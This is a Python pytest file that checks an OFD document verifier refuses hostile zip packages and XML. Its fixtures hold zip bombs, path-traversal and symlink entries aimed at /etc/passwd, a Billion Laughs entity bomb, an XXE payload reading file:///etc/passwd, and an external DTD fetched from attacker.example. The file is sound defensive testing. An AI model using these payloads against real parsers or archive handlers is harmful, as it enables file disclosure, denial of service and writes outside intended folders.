"""Hostile OFD packages: every one is refused with a clear reason, nothing raises.

The refusals are judged through the public `OfdVerifier` (TOTAL_FAILED / FORMAT_FAILURE and the
reason in the message) and `is_ofd` (False); the limits are those of `signer._ofd_package`.
"""

from __future__ import annotations

import io
import os
import warnings
import zipfile
from datetime import datetime

import pytest

from signer import Indication, OfdVerifier, SubIndication, ValidationReport, is_ofd
from signer._ofd_package import (
    MAX_DEPTH,
    MAX_ELEMENTS,
    MAX_ENTRIES,
    MAX_XML_BYTES,
    OfdRefused,
    read_package,
    resolve_loc,
)

NS = 'xmlns:ofd="http://www.ofdspec.org/2016"'
OFD_XML = (
    f'<?xml version="1.0" encoding="UTF-8"?><ofd:OFD {NS} Version="1.0" DocType="OFD">'
    "<ofd:DocBody><ofd:DocInfo><ofd:DocID>x</ofd:DocID></ofd:DocInfo>"
    "<ofd:DocRoot>Doc_0/Document.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
).encode()


class NeverCalled:
    """A GM verifier for packages that must be refused before any signature is looked at."""

    def validate_signature(
        self, der: bytes, data: bytes | None, *, validation_time: datetime | None = None
    ) -> ValidationReport:
        raise AssertionError("a refused package reached the signature check")


def zip_of(
    *entries: tuple[str | zipfile.ZipInfo, bytes], method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate names made on purpose
        with zipfile.ZipFile(buffer, "w", compression=method) as archive:
            for name, data in entries:
                archive.writestr(name, data)
    return buffer.getvalue()


def refusal(ofd: bytes, *, ofd_root: bool = False) -> str:
    """The refusal's message; `ofd_root`: the package is sound up to OFD.xml's root element."""
    report = OfdVerifier(NeverCalled()).validate(ofd)
    assert report.indication is Indication.TOTAL_FAILED
    assert report.sub_indication is SubIndication.FORMAT_FAILURE
    assert report.format == "OFD"
    assert report.signatures == ()
    assert is_ofd(ofd) is ofd_root
    return report.message


def with_flag(ofd: bytes, name: bytes, flag: int) -> bytes:
    """`ofd` with general-purpose `flag` set on `name` in its local and central headers
    (zipfile clears the flags it does not implement when writing)."""
    data = bytearray(ofd)
    for magic, flag_at, name_at in ((b"PK\x03\x04", 6, 30), (b"PK\x01\x02", 8, 46)):
        at = data.index(magic)
        while data[at + name_at : at + name_at + len(name)] != name:
            at = data.index(magic, at + 1)
        data[at + flag_at] |= flag
    return bytes(data)


def test_a_plain_package_is_read_and_unsigned_is_indeterminate() -> None:
    ofd = zip_of(("OFD.xml", OFD_XML), ("Doc_0/Document.xml", b"<x/>"))
    assert is_ofd(ofd)
    report = OfdVerifier(NeverCalled()).validate(ofd)
    assert report.indication is Indication.INDETERMINATE
    assert report.sub_indication is SubIndication.SIGNED_DATA_NOT_FOUND
    assert "no signature to validate" in report.message


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"", "not a zip"),
        (b"%PDF-1.7 not an OFD", "not a zip"),
        (b"PK\x03\x04" + b"\x00" * 40, "damaged or unreadable"),
    ],
)
def test_not_a_zip(data: bytes, reason: str) -> None:
    assert reason in refusal(data)


def test_truncated_zip() -> None:
    ofd = zip_of(("OFD.xml", OFD_XML), ("Doc_0/Document.xml", b"<x/>" * 100))
    for cut in (len(ofd) // 2, len(ofd) - 10):
        assert "damaged or unreadable" in refusal(ofd[:cut])


def test_corrupted_compressed_data_fails_its_crc() -> None:
    ofd = bytearray(zip_of(("OFD.xml", OFD_XML), method=zipfile.ZIP_STORED))
    at = ofd.index(b"DocType")
    ofd[at] ^= 0x20
    assert "damaged or unreadable" in refusal(bytes(ofd))


def test_zip_bomb_is_refused_while_decompressing() -> None:
    bomb = b"\x00" * (8 * 1024 * 1024)
    assert "zip bomb" in refusal(zip_of(("OFD.xml", OFD_XML), ("Doc_0/Res/bomb.bin", bomb)))


def test_the_declared_size_is_not_trusted(monkeypatch: pytest.MonkeyPatch) -> None:
    big = os.urandom(3 * 1024 * 1024)  # incompressible: no ratio alarm, only the size counts
    monkeypatch.setattr("signer._ofd_package.MAX_ENTRY_BYTES", 2 * 1024 * 1024)
    ofd = zip_of(("OFD.xml", OFD_XML), ("Doc_0/Res/big.bin", big))
    assert "larger than" in refusal(ofd)


def test_total_size_is_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("signer._ofd_package.MAX_TOTAL_BYTES", 3 * 1024 * 1024)
    parts = [(f"Doc_0/Res/{n}.bin", os.urandom(1024 * 1024)) for n in range(4)]
    assert "come to more than" in refusal(zip_of(("OFD.xml", OFD_XML), *parts))


def test_entry_count_is_limited(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("signer._ofd_package.MAX_ENTRIES", 5)
    parts = [(f"Doc_0/Res/{n}.txt", b"x") for n in range(5)]
    assert "more than 5 entries" in refusal(zip_of(("OFD.xml", OFD_XML), *parts))


@pytest.mark.parametrize(
    "name",
    [
        "../evil",
        "Doc_0/../../evil",
        "/etc/passwd",
        "Doc_0\\..\\evil",
        "C:/evil",
        "Doc_0//x",
        "./OFD.xml",
        "Doc_0/\x01",
    ],
)
def test_paths_outside_or_unportable_are_refused(name: str) -> None:
    info = zipfile.ZipInfo("placeholder")
    info.filename = name  # ZipInfo would tidy some of these names: write them as they come
    message = refusal(zip_of(("OFD.xml", OFD_XML), (info, b"evil")))
    assert "path" in message or "control character" in message


def test_duplicate_entries_are_refused() -> None:
    ofd = zip_of(("OFD.xml", OFD_XML), ("OFD.xml", OFD_XML))
    assert "twice" in refusal(ofd)
    ofd = zip_of(("OFD.xml", OFD_XML), ("ofd.XML", OFD_XML))
    assert "twice" in refusal(ofd)


def test_encrypted_and_symlink_entries_are_refused() -> None:
    ofd = zip_of(("OFD.xml", OFD_XML), ("Doc_0/secret.xml", b"x"))
    assert "encrypted" in refusal(with_flag(ofd, b"Doc_0/secret.xml", 0x1))
    link = zipfile.ZipInfo("Doc_0/link")
    link.create_system = 3
    link.external_attr = 0o120777 << 16
    assert "symbolic link" in refusal(zip_of(("OFD.xml", OFD_XML), (link, b"/etc/passwd")))


def test_a_folder_entry_with_data_is_refused() -> None:
    assert "folder entry" in refusal(zip_of(("OFD.xml", OFD_XML), ("Doc_0/", b"data")))


def xml_refusal(ofd_xml: bytes) -> str:
    return refusal(zip_of(("OFD.xml", ofd_xml), method=zipfile.ZIP_STORED))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol">
<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016">&lol9;</ofd:OFD>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE ofd [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016">&xxe;</ofd:OFD>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE ofd SYSTEM "http://attacker.example/ofd.dtd">
<ofd:OFD xmlns:ofd="http://www.ofdspec.org/2016"/>"""


@pytest.mark.parametrize("xml", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD])
def test_dtds_and_entities_are_refused(xml: bytes) -> None:
    assert "DTD" in xml_refusal(xml)


@pytest.mark.parametrize(
    "xml",
    [b"", b"<ofd:OFD", b"<a><b></a>", OFD_XML + b"<trailing/>", b"\xff\xfe\x00garbage"],
)
def test_malformed_xml_is_refused(xml: bytes) -> None:
    assert "not well-formed XML" in xml_refusal(xml)


@pytest.mark.parametrize("encoding", [b"UTF-0", b"no-such-codec", b"x" * 40])
def test_an_unknown_declared_encoding_is_refused(encoding: bytes) -> None:
    """expat looks the declared encoding up in Python's codecs: a LookupError, not a
    ParseError (found by mutating the shared OFD's XML)."""
    declared = OFD_XML.replace(b'encoding="UTF-8"', b'encoding="' + encoding + b'"')
    assert declared != OFD_XML
    assert "unknown encoding" in xml_refusal(declared)


def test_huge_xml_is_refused() -> None:
    huge = OFD_XML.replace(b"</ofd:OFD>", b"<!--" + b"x" * MAX_XML_BYTES + b"--></ofd:OFD>")
    assert "larger than" in xml_refusal(huge)


def test_deep_xml_is_refused() -> None:
    deep = b"<a>" * (MAX_DEPTH + 1) + b"</a>" * (MAX_DEPTH + 1)
    assert "deeper than" in xml_refusal(deep)
    very_deep = b"<a>" * 1_000_000  # refused at depth 101, before the rest is parsed
    assert "deeper than" in xml_refusal(very_deep)


def test_wide_xml_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("signer._ofd_package.MAX_ELEMENTS", 1000)
    wide = b"<a>" + b"<b/>" * 1000 + b"</a>"
    assert "more than 1000 elements" in xml_refusal(wide)
    assert MAX_ELEMENTS >= 3 * MAX_ENTRIES  # a Reference per file fits in a Signature.xml


def test_wrong_root_and_missing_parts() -> None:
    assert "root is not ofd:OFD" in xml_refusal(b'<OFD xmlns="urn:other"/>')
    no_body = zip_of(("OFD.xml", f"<ofd:OFD {NS}/>".encode()))
    assert "no ofd:DocBody" in refusal(no_body, ofd_root=True)
    assert "not in the package" in refusal(zip_of(("Doc_0/Document.xml", b"<x/>")))


def test_signature_list_paths_may_not_escape() -> None:
    escaping = OFD_XML.replace(
        b"</ofd:DocBody>",
        b"<ofd:Signatures>../../etc/Signatures.xml</ofd:Signatures></ofd:DocBody>",
    )
    assert "outside the package" in refusal(zip_of(("OFD.xml", escaping)), ofd_root=True)
    missing = OFD_XML.replace(
        b"</ofd:DocBody>",
        b"<ofd:Signatures>/Doc_0/Signs/Signatures.xml</ofd:Signatures></ofd:DocBody>",
    )
    assert "not in the package" in refusal(zip_of(("OFD.xml", missing)), ofd_root=True)


@pytest.mark.parametrize(
    ("referrer", "loc", "expected"),
    [
        ("OFD.xml", "Doc_0/Document.xml", "Doc_0/Document.xml"),
        ("OFD.xml", "/Doc_0/Signs/Signatures.xml", "Doc_0/Signs/Signatures.xml"),
        ("Doc_0/Signs/Signatures.xml", "Sign_0/Signature.xml", "Doc_0/Signs/Sign_0/Signature.xml"),
        ("Doc_0/Signs/Sign_0/Signature.xml", "../../Document.xml", "Doc_0/Document.xml"),
        ("Doc_0/Signs/Sign_0/Signature.xml", "./Seal.esl", "Doc_0/Signs/Sign_0/Seal.esl"),
        ("Doc_0/Document.xml", " Pages/Page_0/Content.xml ", "Doc_0/Pages/Page_0/Content.xml"),
    ],
)
def test_locations_resolve_as_the_standard_says(referrer: str, loc: str, expected: str) -> None:
    assert resolve_loc(referrer, loc, "loc") == expected


@pytest.mark.parametrize(
    "loc", ["", "   ", "../OFD.xml", "/../x", "a/../../x", "Doc_0\\x", "file:///etc/passwd", "/"]
)
def test_bad_locations_are_refused(loc: str) -> None:
    with pytest.raises(OfdRefused):
        resolve_loc("OFD.xml", loc, "loc")


def test_read_package_keeps_files_only() -> None:
    package = read_package(zip_of(("OFD.xml", OFD_XML), ("Doc_0/", b""), ("Doc_0/a.xml", b"<a/>")))
    assert sorted(package) == ["Doc_0/a.xml", "OFD.xml"]
    assert package.read("Doc_0/a.xml") == b"<a/>"
